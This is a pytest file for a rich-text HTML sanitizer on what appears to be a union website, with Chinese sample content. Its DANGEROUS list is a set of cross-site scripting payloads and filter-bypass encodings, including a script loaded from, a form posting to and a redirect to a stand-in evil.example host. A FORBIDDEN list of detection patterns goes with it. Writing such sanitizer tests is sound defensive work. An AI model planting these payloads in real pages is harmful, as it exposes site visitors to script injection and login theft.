"""Rich text is cleaned with an allow-list: what an attacker hides in a body never reaches a reader."""

import pytest

from union_site.common.richtext import render_html, sanitize_html

DANGEROUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<style>body{display:none}</style>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<img src="x.png" onerror="alert(1)">',
    '<p onclick="alert(1)" onmouseover="alert(2)">文字</p>',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    '<a href="javascript:alert(1)">链接</a>',
    '<a href="JaVaScRiPt:alert(1)">链接</a>',
    '<a href="jav&#x61;script:alert(1)">链接</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">链接</a>',
    '<a href="java\tscript:alert(1)">链接</a>',
    '<a href="java\nscript:alert(1)">链接</a>',
    '<a href=" \x01javascript:alert(1)">链接</a>',
    '<a href="vbscript:msgbox(1)">链接</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">链接</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<p style="background:url(javascript:alert(1))">文字</p>',
    '<form action="https://evil.example"><input name="pw"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<!-- <script>alert(1)</script> -->",
]
FORBIDDEN = [
    "<script",
    "<style",
    "<iframe",
    "<object",
    "<embed",
    "<svg",
    "<math",
    "<form",
    "<input",
    "<meta",
    "<base",
    "onerror",
    "onclick",
    "onmouseover",
    "onload",
    "javascript:",
    "vbscript:",
    "data:",
    "style=",
    "alert(1)</",
]


@pytest.mark.parametrize("html", DANGEROUS)
def test_dangerous_markup_is_removed(html):
    clean = sanitize_html(html).lower()
    for bad in FORBIDDEN:
        assert bad not in clean, (html, clean)


def test_headings_lists_tables_pictures_and_links_are_kept():
    html = (
        "<h2>五年来 工会改革创新</h2><p>全市<strong>实名</strong>基层工会组织达<em>4642</em>个。</p>"
        "<ul><li>一</li></ul><ol><li>二</li></ol><blockquote><p>引文</p></blockquote>"
        '<figure class="table"><table><thead><tr><th>项目</th></tr></thead><tbody><tr><td>520余场</td></tr></tbody>'
        '</table></figure><figure class="image"><img src="/media/editor/2026/11/a.jpg" alt="劳模"></figure>'
        '<p><a href="https://www.example.org/">外部链接</a> <a href="/news/1/">站内</a></p>'
    )
    clean = sanitize_html(html)
    for kept in [
        "<h2>",
        "<strong>实名</strong>",
        "<em>4642</em>",
        "<ul>",
        "<ol>",
        "<blockquote>",
        "<table>",
        "<th>项目</th>",
        '<img src="/media/editor/2026/11/a.jpg" alt="劳模">',
        'href="/news/1/"',
        'href="https://www.example.org/"',
    ]:
        assert kept in clean


def test_links_opening_a_new_tab_get_noopener():
    assert 'rel="noopener noreferrer"' in sanitize_html('<a href="https://www.example.org/" target="_blank">外</a>')


def test_render_sanitizes_again_what_is_stored():
    assert "<script" not in render_html("<p>好</p><script>alert(1)</script>")
